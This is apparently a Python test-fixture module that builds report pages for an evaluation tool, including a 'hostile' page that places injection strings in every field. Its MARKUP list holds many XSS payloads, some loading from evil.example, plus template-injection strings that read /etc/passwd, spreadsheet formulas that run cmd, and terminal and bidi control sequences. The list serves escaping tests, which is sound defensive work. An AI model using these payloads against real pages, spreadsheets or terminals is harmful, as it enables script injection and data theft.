"""Pages to open: of a small run with something of everything, of thousands of cases, of hostile texts in every field."""

from __future__ import annotations

import random
from collections.abc import Iterable, Sequence

from evalfactory.analysis.casebook import Spreading, beside, cells_of, weight
from evalfactory.records.measurement import Measurement
from evalfactory.records.page import CaseLine, CaseText, Cell, Draw, Page, Spread, Text
from evalfactory.records.report import Report, ShardTime
from hostile_given import TRICKS, poisoned_report
from report_given import CASES, METRICS, Told, told

TOLD = told()

PWN = "window.pwned=(window.pwned||0)+1"
MARKUP = tuple(
    form.replace("PWN", PWN)
    for form in (
        "<script>PWN</script>", "</script><script>PWN</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/x>PWN</script>",
        "<img src=x onerror=PWN>", "<img src=`x` onerror=PWN>", '"><img src=x onerror=PWN>', "'><svg/onload=PWN>", "<svg><script>PWN</script></svg>",
        "<svg><animate onbegin=PWN attributeName=x dur=1s>", "<body onload=PWN>", "<iframe srcdoc='<script>parent.PWN</script>'></iframe>",
        "<iframe src=javascript:PWN>", "<object data=javascript:PWN>", "<embed src=javascript:PWN>", "<a href=javascript:PWN>x</a>",
        "<form action=javascript:PWN><input type=submit autofocus>", "<input autofocus onfocus=PWN>", "<details open ontoggle=PWN>",
        "<video><source onerror=PWN>", "<math><mtext></p><img src=x onerror=PWN>", "<style>*{display:none}</style>", "</style><style>*{display:none}</style>",
        "<style>@import'//evil.example/x.css';</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>", "<!--", "--><script>PWN</script>", "<!--<script>", "<![CDATA[<script>PWN</script>]]>", "]]><script>PWN</script>",
        "<template><script>PWN</script></template>", "<noscript><p title='</noscript><img src=x onerror=PWN>'>", "<plaintext>", "<xmp>", "</dialog></main>",
        "</title><script>PWN</script>", "</textarea><script>PWN</script>", "<dialog open>", "<p style=position:fixed;inset:0;background:red>",
        "\u003cscript\u003ePWN\u003c/script\u003e", "\\u003cscript\\u003ePWN\\u003c/script\\u003e", "&lt;script&gt;PWN&lt;/script&gt;",
        "&#60;script&#62;PWN&#60;/script&#62;", "javascript:PWN", "data:text/html,<script>PWN</script>", "{{constructor.constructor('PWN')()}}",
        "{{ config }}", "{% include '/etc/passwd' %}", "${PWN}", "`+PWN+`", "';PWN//", '";PWN//', "\\';PWN//", "*/PWN/*", "\u2028PWN\u2029",
        "__proto__", "constructor", "toString", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "[x](javascript:PWN)", "![x](javascript:PWN)", "<!-- evalfactory -->",
        "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[31mred\x1b[0m", "\x9b2J", "\u202egnp.exe", "\u2067\u2066\u202d", "\u061c\u200e\u200f",
        "\U000e0041\U000e0042", "Z\u0351\u036b" * 60, "W" * 3000, "﷽" * 200, "\u200b" * 500, "\u3000" * 300, "a\u0300" * 500,
    )
)  # fmt: skip
HOSTILE = (*MARKUP, *(each for each in TRICKS if not any("\ud800" <= c <= "\udfff" for c in each)))


def small_page(given: Told = TOLD) -> Page:
    """The page of the small run, with all texts."""
    then = [entry for entry in TOLD.entries if isinstance(entry, Measurement)]
    then = [
        each.model_copy(update={"score": 1.0, "success": True}) if each.score is not None else each for each in then
    ]
    spreading = Spreading(len(METRICS))
    by_id = {frozen.case.id: frozen.case for frozen in CASES}
    cases = []
    for case in beside(given.entries, then, METRICS):
        spreading.add(case.draws)
        about = by_id[case.case_id]
        line = CaseLine(case.case_id, cells_of(case.draws, len(METRICS)), asked=about.input or "", tags=("en", "返品"))
        texts = (Text("input", (about.input or "",)), Text("retrieval_context", about.retrieval_context or ()))
        answer = about.actual_output
        cases.append((line, CaseText(texts, case.draws, answer, answer and answer.replace("30", "14"))))
    cases.sort(key=lambda pair: weight(pair[0]))
    return page_with(cases, spreading.told())


def page_with(cases: Sequence[tuple[CaseLine, CaseText | None]], spreads: tuple[Spread, ...]) -> Page:
    return Page(
        lines=tuple(line for line, _ in cases),
        texts=tuple(text for _, text in cases),
        spreads=spreads,
        broken=sum(line.broken for line, _ in cases),
        fixed=sum(line.fixed for line, _ in cases),
    )


def timed(report: Report) -> Report:
    """The report with a time line."""
    shards = tuple(
        ShardTime(
            index=place, attempt=f"worker{place % 3}", slots=8, calls=50, retries=place % 4, throttled=place % 2, errored=place == 5,
            started_at=f"2026-11-23T06:34:{12 + 6 * place:02}.500+00:00", finished_at=f"2026-11-23T06:34:{20 + 6 * place:02}.250+00:00",
        )
        for place in range(6)
    )  # fmt: skip
    return report.model_copy(update={"timeline": shards})


def many(cases: int, *, characters: int = 3000, seed: int = 7) -> Page:
    """So many cases of so many characters each, of which some failed."""
    dice = random.Random(seed)
    words = [
        "the",
        "shop",
        "takes",
        "goods",
        "back",
        "within",
        "fourteen",
        "days",
        "after",
        "delivery",
        "unless",
        "they",
        "were",
        "worn",
        "or",
        "opened",
    ]
    body = " ".join(dice.choice(words) for _ in range(characters // 5))
    spreading = Spreading(len(METRICS))
    told_cases = []
    for number in range(cases):
        scores = [round(min(1.0, dice.betavariate(6, 1.2)), 3) for _ in METRICS]
        draws = tuple(
            Draw(metric, 0, "scored", score, score >= 0.5, f"The score is {score} because of what was said.", dice.choice([score, 0.9]), True, "Fine then.")
            for metric, score in enumerate(scores)
        )  # fmt: skip
        spreading.add(draws)
        start = dice.randrange(200)
        text = body[start : start + characters // 3]
        line = CaseLine(
            f"case-{number:05}", cells_of(draws, len(METRICS)), asked=text[:160], tags=(dice.choice(["ja", "en"]),)
        )
        fields = (Text("input", (text[:100],)), Text("retrieval_context", (text, text[::-1])))
        told_cases.append((line, CaseText(fields, draws, f"{text[:300]} {number}", f"{text[:280]} {number + 1}")))
    told_cases.sort(key=lambda pair: weight(pair[0]))
    return page_with(told_cases, spreading.told())


def hostile(texts: Iterable[str]) -> tuple[Report, Page]:
    """A report and a page with each text in every field of a case, and all kinds of them in the report."""
    cases = []
    for number, text in enumerate(texts):
        draws = tuple(Draw(place, 0, "scored", 0.2, False, text, 1.0, True, text) for place in range(len(METRICS)))
        cells = (Cell("scored", 0.2, False, 1.0, True),) * len(METRICS)
        line = CaseLine(f"{text}#{number}", cells, asked=text, tags=(text,))
        fields = tuple(Text(name, (text, text)) for name in ("input", "expected_output", "context", text))
        cases.append((line, CaseText(fields, draws, f"{text} now", f"then {text}")))
    flat = (0,) * 20
    page = page_with(cases, (Spread(0.0, 1.0, flat, flat, (0,) * 41),) * len(METRICS))
    return poisoned_report(timed(TOLD.report), "".join(MARKUP[:60])), page
